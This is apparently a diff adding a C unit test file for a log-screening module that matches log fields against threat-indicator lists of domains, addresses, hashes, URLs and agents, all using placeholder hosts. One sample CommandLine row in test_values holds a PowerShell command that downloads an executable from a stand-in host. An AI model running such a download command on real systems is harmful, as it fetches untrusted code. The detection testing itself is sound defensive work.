@@ -1,0 +1,321 @@
+/* The screen of log entries: which values are hits in which fields, what is no hit however much it
+ * looks like one, what is counted, and that what it says is what asking each value by hand says. */
+#include "harness.h"
+#include "prop.h"
+
+#include "base/time.h"
+#include "detect/intel/screen.h"
+
+#include <stdio.h>
+#include <string.h>
+
+#define HEAD   "canhgac-list 1\nname thu\nlabel c2\nsource x\n\n"
+#define SHA256 "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+#define MD5    "d41d8cd98f00b204e9800998ecf8427e"
+
+static const char listed[] = HEAD "domain evil.example\naddress 203.0.113.7\n"
+                                  "address 198.51.100.0/24\naddress 2001:db8::/32\n"
+                                  "hash " SHA256 "\nhash " MD5 "\n"
+                                  "url files.example/a/b.exe\nurl 192.0.2.9:8080/mozi.m\n"
+                                  "agent EvilBot/1.0\nemail ke.xau@mail.example\nend 10\n";
+
+static struct indicators *load(const char *text)
+{
+    struct indicators *indicators = NULL;
+    struct diag diag = {{0}};
+
+    assert_int_equal(indicators_new(indicators_popular(), &indicators, &diag), 0);
+    if (indicators_add_file(indicators, str_from(text), &diag) < 0) {
+        fail_msg("%s", diag.text);
+    }
+    return indicators;
+}
+
+static struct screen *make(const struct indicators *indicators)
+{
+    struct screen *screen = NULL;
+
+    assert_int_equal(screen_new(indicators, &screen), 0);
+    return screen;
+}
+
+/* The hits of one field, as "kind:entry=found " each. */
+static const char *hits_of(struct screen *screen, const char *name, const char *value)
+{
+    static char said[1024];
+    struct entry_field field = {.name = str_from(name), .value = str_from(value)};
+    struct entry entry = {.fields = &field, .count = 1};
+    const struct screen_hit *hits;
+    size_t count;
+    int len = 0;
+
+    said[0] = '\0';
+    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
+    for (size_t i = 0; i < count; i++) {
+        assert_int_equal(hits[i].field, 0);
+        len += snprintf(said + len, sizeof(said) - (size_t)len, "%s:%.*s=%.*s ",
+                        feed_kind_name(hits[i].hit.kind), STR_ARG(hits[i].hit.value),
+                        STR_ARG(hits[i].found));
+    }
+    return said;
+}
+
+static void test_values(void **state)
+{
+    static const struct {
+        const char *name;
+        const char *value;
+        const char *hits;
+    } rows[] = {
+        {"DestinationIp", "203.0.113.7", "address:203.0.113.7=203.0.113.7 "},
+        {"client", "203.0.113.7:51515", "address:203.0.113.7=203.0.113.7:51515 "},
+        {"src_ip", "198.51.100.200", "address:198.51.100.0/24=198.51.100.200 "},
+        {"src_ip", "2001:DB8:1::7", "address:2001:db8::/32=2001:DB8:1::7 "},
+        {"src_ip", "[2001:db8::7]:443", "address:2001:db8::/32=[2001:db8::7]:443 "},
+        {"src_ip", "::ffff:203.0.113.7", "address:203.0.113.7=::ffff:203.0.113.7 "},
+        {"src_ip", "203.0.113.70", ""},
+        {"FileVersion", "203.0.113.7", ""},
+        {"version", "203.0.113.7.1", ""},
+        {"QueryName", "Evil.Example", "domain:evil.example=Evil.Example "},
+        {"query", "a.b.evil.example.", "domain:evil.example=a.b.evil.example. "},
+        {"host", "notevil.example", ""},
+        {"host", "evil.example.vn", ""},
+        {"Hashes", "SHA1=00,MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=" MD5,
+         "hash:" MD5 "=D41D8CD98F00B204E9800998ECF8427E hash:" MD5 "=" MD5 " "},
+        {"sha256", SHA256, "hash:" SHA256 "=" SHA256 " "},
+        {"Hashes", "SHA256=" SHA256, "hash:" SHA256 "=" SHA256 " "},
+        {"url", "http://files.example/a/b.exe",
+         "url:files.example/a/b.exe=http://files.example/a/b.exe "},
+        {"url", "https://u@FILES.example:443/a/b.exe?x=1#y",
+         "url:files.example/a/b.exe=https://u@FILES.example:443/a/b.exe?x=1#y "},
+        {"url", "http://files.example/a/c.exe", ""},
+        {"url", "http://192.0.2.9:8080/mozi.m",
+         "url:192.0.2.9:8080/mozi.m=http://192.0.2.9:8080/mozi.m "},
+        {"url", "http://www.evil.example/x", "domain:evil.example=http://www.evil.example/x "},
+        {"url", "http://203.0.113.7:8080/", "address:203.0.113.7=http://203.0.113.7:8080/ "},
+        {"url", "http://[2001:db8::7]/x", "address:2001:db8::/32=http://[2001:db8::7]/x "},
+        {"CommandLine",
+         "powershell -c \"iwr 'http://files.example/a/b.exe' -o x\" ; y http://evil.example",
+         "url:files.example/a/b.exe=http://files.example/a/b.exe "
+         "domain:evil.example=http://evil.example "},
+        {"cs-user-agent", "EvilBot/1.0", "agent:EvilBot/1.0=EvilBot/1.0 "},
+        {"userAgent", "EvilBot/1.0", "agent:EvilBot/1.0=EvilBot/1.0 "},
+        {"comment", "EvilBot/1.0", ""},
+        {"from", "Ke.Xau@mail.example", "email:ke.xau@mail.example=Ke.Xau@mail.example "},
+        {"from", "ai.do@mail.example", ""},
+        {"TargetFilename", "evil.example", ""},
+        {"path", "C:\\evil.example\\203.0.113.7", ""},
+        {"x", "....", ""},
+        {"x", "[:::", ""},
+        {"x", "abcd", ""},
+    };
+    struct indicators *indicators = load(listed);
+    struct screen *screen = make(indicators);
+
+    (void)state;
+    for (size_t i = 0; i < 2 * sizeof(rows) / sizeof(rows[0]); i++) { /* a second time alike */
+        const char *name = rows[i / 2].name;
+
+        assert_string_equal(hits_of(screen, name, rows[i / 2].value), rows[i / 2].hits);
+    }
+    screen_free(screen);
+    indicators_free(indicators);
+}
+
+/* A web log names host, path and query apart; JSON escapes what it likes. */
+static void test_parts(void **state)
+{
+    struct entry_field web[] = {
+        {.name = STR("cs-host"), .value = STR("Files.example")},
+        {.name = STR("cs-uri-stem"), .value = STR("/a/b.exe")},
+        {.name = STR("cs-uri-query"), .value = STR("x=1")},
+        {.name = STR("c-ip"), .value = STR("203.0.113.7")},
+        {.name = STR("referer"),
+         .value = STR("http:\\/\\/files.example\\/a\\/b.exe"),
+         .is_escaped = true},
+        {.name = STR("sc-bytes"), .value = STR("203.0.113.7"), .type = ENTRY_TYPE_NUMBER},
+    };
+    struct entry entry = {.fields = web, .count = sizeof(web) / sizeof(web[0])};
+    struct indicators *indicators = load(listed);
+    struct screen *screen = make(indicators);
+    const struct screen_hit *hits;
+    size_t count = 0;
+
+    (void)state;
+    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
+    assert_int_equal(count, 3);
+    assert_int_equal(hits[0].field, 1);
+    assert_str(hits[0].found, "Files.example/a/b.exe?x=1");
+    assert_int_equal(hits[1].field, 3);
+    assert_int_equal(hits[2].field, 4);
+    assert_str(hits[2].hit.list->label, "c2");
+    screen_free(screen);
+    indicators_free(indicators);
+}
+
+static void collect(void *context, const struct screen_sighting *sighting)
+{
+    char *said = context;
+    size_t len = strlen(said);
+
+    (void)snprintf(said + len, 256 - len, "%s:%.*s x%llu %lld-%lld ",
+                   feed_kind_name(sighting->kind), STR_ARG(sighting->value),
+                   (unsigned long long)sighting->count, (long long)sighting->first,
+                   (long long)sighting->last);
+}
+
+/* By list entry, not by what it was found in. */
+static void test_sightings(void **state)
+{
+    static const char *const asked[] = {"198.51.100.1",   "evil.example", "198.51.100.2",
+                                        "a.evil.example", "198.51.100.3", "good.example"};
+    struct indicators *indicators = load(listed);
+    struct screen *screen = make(indicators);
+    char said[256] = "";
+
+    (void)state;
+    for (size_t i = 0; i < sizeof(asked) / sizeof(asked[0]); i++) {
+        struct entry_field field = {.name = STR("query"), .value = str_from(asked[i])};
+        struct entry entry = {.fields = &field, .count = 1, .time = 10 + (int64_t)i};
+        const struct screen_hit *hits;
+        size_t count;
+
+        assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
+    }
+    screen_sightings(screen, collect, said);
+    assert_string_equal(said, "address:198.51.100.0/24 x3 10-14 domain:evil.example x2 11-13 ");
+    screen_free(screen);
+    indicators_free(indicators);
+}
+
+/* An entry full of hits shows the first and counts them all; a huge one takes bounded time. */
+static void test_many(void **state)
+{
+    static struct entry_field fields[10000];
+    static char text[1 << 20];
+    struct entry entry = {.fields = fields, .count = 10000};
+    struct indicators *indicators = load(listed);
+    struct screen *screen = make(indicators);
+    struct screen_stats stats;
+    const struct screen_hit *hits;
+    size_t count = 0;
+
+    (void)state;
+    for (size_t i = 0; i < 10000; i++) {
+        fields[i] = (struct entry_field){.name = STR("ip"), .value = STR("203.0.113.7")};
+    }
+    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
+    assert_int_equal(count, SCREEN_HITS_MAX);
+    screen_stats(screen, &stats);
+    assert_int_equal(stats.hits, 10000);
+    for (size_t i = 0; i + 3 <= sizeof(text); i += 3) {
+        memcpy(text + i, "://", 3);
+    }
+    fields[0] =
+        (struct entry_field){.name = STR("CommandLine"), .value = str_of(text, sizeof(text))};
+    entry.count = 1;
+    assert_int_equal(screen_entry(screen, &entry, &hits, &count), 0);
+    assert_int_equal(count, 0);
+    screen_free(screen);
+    indicators_free(indicators);
+}
+
+/* Whatever kinds lists have, hits of the others do not come. */
+static void test_one_kind(void **state)
+{
+    static const struct {
+        const char *list;
+        const char *hits;
+    } rows[] = {
+        {HEAD "domain files.example\nend 1\n",
+         "domain:files.example=http://files.example/a/b.exe "},
+        {HEAD "url files.example/a/b.exe\nend 1\n",
+         "url:files.example/a/b.exe=http://files.example/a/b.exe "},
+        {HEAD "hash " MD5 "\nend 1\n", ""},
+        {HEAD "address 203.0.113.7\nend 1\n", ""},
+        {HEAD "end 0\n", ""},
+    };
+
+    (void)state;
+    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+        struct indicators *indicators = load(rows[i].list);
+        struct screen *screen = make(indicators);
+
+        assert_string_equal(hits_of(screen, "url", "http://files.example/a/b.exe"), rows[i].hits);
+        screen_free(screen);
+        indicators_free(indicators);
+    }
+}
+
+/* A network is a hit for exactly the addresses whose first bits are its own. */
+static const char *networks_hold(struct prop *prop)
+{
+    uint32_t base = (uint32_t)prop_below(prop, 0);
+    unsigned bits = 8 + (unsigned)prop_below(prop, 25);
+    uint32_t asked = base ^ (uint32_t)(prop_bool(prop) ? 1ULL << prop_below(prop, 32) : 0);
+    uint32_t mask = (uint32_t)(0xffffffffULL << (32 - bits));
+    bool is_in = (base & mask) == (asked & mask);
+    char list[256];
+    char value[32];
+    struct indicators *indicators;
+    struct screen *screen;
+    bool is_hit;
+    int len;
+
+    len = snprintf(list, sizeof(list), HEAD "address %u.%u.%u.%u", (base & mask) >> 24,
+                   (base & mask) >> 16 & 255, (base & mask) >> 8 & 255, base & mask & 255);
+    (void)snprintf(list + len, sizeof(list) - (size_t)len, bits < 32 ? "/%u\nend 1\n" : "\nend 1\n",
+                   bits);
+    (void)snprintf(value, sizeof(value), "%u.%u.%u.%u", asked >> 24, asked >> 16 & 255,
+                   asked >> 8 & 255, asked & 255);
+    indicators = load(list);
+    screen = make(indicators);
+    is_hit = hits_of(screen, "ip", value)[0] != '\0';
+    screen_free(screen);
+    indicators_free(indicators);
+    return is_hit == is_in ? NULL : "another answer than the bits give";
+}
+
+static void test_networks(void **state)
+{
+    (void)state;
+    prop_check("networks", networks_hold, 300);
+}
+
+static int screen_once(void *context)
+{
+    struct indicators *indicators = context;
+    struct entry_field field = {.name = STR("ip"), .value = STR("203.0.113.7")};
+    struct entry entry = {.fields = &field, .count = 1};
+    struct screen *screen = NULL;
+    const struct screen_hit *hits;
+    size_t count;
+    int r = screen_new(indicators, &screen);
+
+    if (r == 0) {
+        r = screen_entry(screen, &entry, &hits, &count);
+    }
+    screen_free(screen);
+    return r;
+}
+
+static void test_no_memory(void **state)
+{
+    struct indicators *indicators = load(listed);
+
+    (void)state;
+    assert_survives_no_memory(screen_once, indicators);
+    indicators_free(indicators);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_values),    cmocka_unit_test(test_parts),
+        cmocka_unit_test(test_sightings), cmocka_unit_test(test_many),
+        cmocka_unit_test(test_one_kind),  cmocka_unit_test(test_networks),
+        cmocka_unit_test(test_no_memory),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
